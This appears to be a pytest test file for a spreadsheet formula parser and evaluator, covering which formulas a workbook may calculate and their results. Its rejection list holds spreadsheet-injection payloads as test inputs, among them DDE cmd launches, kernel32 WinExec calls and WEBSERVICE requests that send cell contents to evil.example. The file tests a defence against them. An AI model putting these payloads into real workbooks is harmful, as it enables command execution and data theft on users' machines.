"""Which formulas a workbook may calculate, and what they come to."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workroom.documents.writers.xlsx.evaluation import FormulaEvaluation, SheetGrid
from workroom.documents.writers.xlsx.formulas import formula_of

SHEETS = {"mieten": "Mieten", "o'neill": "O'Neill"}


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=SUM(B2:B9)", "=SUM(B2:B9)"),
        ("=sum(b2:b9)*1.081", "=SUM(B2:B9)*1.081"),
        ("= B2 * C2", "=B2*C2"),
        ("=$B$2/C$3%", "=$B$2/C$3%"),
        ('=IF(A2>=10,"viel","we""nig")', '=IF(A2>=10,"viel","we""nig")'),
        ("=XLOOKUP(A2,B:B,C:C)", "=_xlfn.XLOOKUP(A2,B:B,C:C)"),
        ("=IFERROR(VLOOKUP(A2,B2:C9,2,FALSE),0)", "=IFERROR(VLOOKUP(A2,B2:C9,2,FALSE),0)"),
        ("=-(A2+3)^2", "=-(A2+3)^2"),
        ('=A2&" "&TEXT(TODAY(),"dd.mm.yyyy")', '=A2&" "&TEXT(TODAY(),"dd.mm.yyyy")'),
        ("=Mieten!B2+'o''neill'!C3", "='Mieten'!B2+'O''Neill'!C3"),
        ("=SUMIFS(C2:C9,A2:A9,1)", "=SUMIFS(C2:C9,A2:A9,1)"),
        ("=1.5e3+.5", "=1.5e3+.5"),
    ],
)
def test_what_is_calculated(text: str, written: str) -> None:
    formula = formula_of(text, SHEETS)
    assert formula is not None
    assert formula.written == written


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        '=DDE("cmd";"/C calc";"x")',
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
        '=HYPERLINK("http://evil.example","x")',
        '=WEBSERVICE("http://evil.example/"&A1)',
        '=FILTERXML(A1,"//a")',
        '=INDIRECT("A1")',
        '=IMPORTXML("http://evil.example","//a")',
        '=IMPORTDATA("http://evil.example")',
        '=IMAGE("http://evil.example/x.png")',
        '=RTD("prog.id",,"x")',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
        '=REGISTER.ID("kernel32","WinExec")',
        '=REGISTER("kernel32","WinExec","JCJ")',
        '=EXEC("calc")',
        '=_xlfn.WEBSERVICE("http://evil.example")',
        "=OFFSET(A1,1,1)",
        '=CELL("filename")',
        '=INFO("directory")',
        "=[evil.xlsx]Sheet1!A1",
        "='[evil.xlsx]Sheet1'!A1",
        "='C:\\x\\[evil.xlsx]Sheet1'!A1",
        "='\\\\host\\share\\[x.xls]S'!A1",
        "='http://evil.example/[x.xlsx]S'!A1",
        "=Other!A1",
        "=A1:INDEX(B1:B9,1)",
        "=@A1",
        "=+cmd|'/C calc'!A0",
        "=SUM(A1:A2)+cmd|'/C calc'!A0",
        "={1,2}",
        "=LET(x,1,x)",
        "=LAMBDA(x,x)(1)",
        "=name",
        "=SUM",
        "=SUM(",
        "=SUM()",
        "=SUM(A1;A2)",
        "=SUMME(A1:A2)",
        "=ROUND(A1)",
        "=IF(A1)",
        "=IFS(A1)",
        "=1+",
        "=1 2",
        "=A1 B1",
        "=2B3",
        "=(1",
        "=1)",
        "=",
        "==1",
        "=A0",
        "=A1048577",
        "=XFE1",
        "=ZZZ1",
        "=A1:",
        "=A1:B",
        '="' + "x" * 300 + '"',
        "=" + "(" * 500 + "1" + ")" * 500,
        "=" + "-" * 1_990 + "(" * 45,
        "=" + "1+" * 3_000 + "1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        " =1",
        "=1\n+1",
        "=\u00a01",
        "=١+1",
        "＝1",
        "=SUM(Ａ1)",
    ],
)
def test_what_is_never_calculated(text: str) -> None:
    assert formula_of(text, SHEETS) is None


@given(st.text("=+-*/^&%()<>,:!'\"|[]{}@ ABCSUMIF129.$_", max_size=30))
def test_whatever_is_calculated_reaches_nothing_outside(text: str) -> None:
    formula = formula_of("=" + text, SHEETS)
    if formula is not None:
        outside = _without_texts(formula.written)
        assert not set(outside) & set("|[]{}@")
        assert formula_of(formula.written.replace("_xlfn.", ""), SHEETS) is not None


def _without_texts(formula: str) -> str:
    return "".join(formula.split('"')[::2])


CELLS: list[list[object]] = [["Name", "Menge", "Preis"], ["A", 2, 12.5], ["B", 3, 1000], ["C", "–", None]]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("=SUM(B2:B4)", 5),
        ("=B2*C2", 25),
        ("=SUM(B2:B3)*C3/4", 1250),
        ("=AVERAGE(C:C)", 506.25),
        ("=MIN(C2:C9)", 12.5),
        ("=MAX(C2:C9)-1", 999),
        ("=COUNT(B2:B4)", 2),
        ("=COUNTA(B2:B4)", 3),
        ("=ROUND(2.675,2)", 2.68),
        ("=ROUNDUP(-1.1,0)", -2),
        ("=INT(-1.5)", -2),
        ("=-2^2", 4),  # as spreadsheets have it
        ("=2^3^2", 64),
        ("=50%*4", 2),
        ('=IF(B2>1,"viel","wenig")', "viel"),
        ("=IF(AND(B2=2,NOT(B3=2)),1,0)", 1),
        ("=C3/0", "#DIV/0!"),
        ("=AVERAGE(A2:A4)", "#DIV/0!"),
        ("=IFERROR(1/0,7)", 7),
        ("=0.1+0.2", 0.1 + 0.2),
        ("=B9+1", 1),
        ('=A2="a"', True),
        ("=D1", None),  # itself
        ("=B4*2", None),
        ("=VLOOKUP(A2,A2:C4,3,FALSE)", None),
        ("=TODAY()", None),
        ("=10^400", None),
        ("=ROUND(1,1E99)", None),
    ],
)
def test_what_formulas_come_to(text: str, value: object) -> None:
    formula = formula_of(text, {})
    assert formula is not None
    cells = [*CELLS[:1], *CELLS[1:]]
    cells[0] = [*cells[0], formula]
    grid = SheetGrid(4, 4, lambda row, column: cells[row][column] if column < len(cells[row]) else None)  # type: ignore[arg-type, return-value]
    assert FormulaEvaluation({"S": grid}).result("S", 0, 3) == value


def test_formulas_that_refer_to_each_other_have_no_result() -> None:
    first, second = formula_of("=B1+1", {}), formula_of("=A1+1", {})
    grid = SheetGrid(1, 2, lambda row, column: (first, second)[column])
    assert FormulaEvaluation({"S": grid}).result("S", 0, 0) is None
    chain = [formula_of(f"=A{row + 2}", {}) for row in range(5_000)]
    deep = SheetGrid(5_001, 1, lambda row, column: chain[row] if row < 5_000 else 1.0)
    assert FormulaEvaluation({"S": deep}).result("S", 0, 0) is None
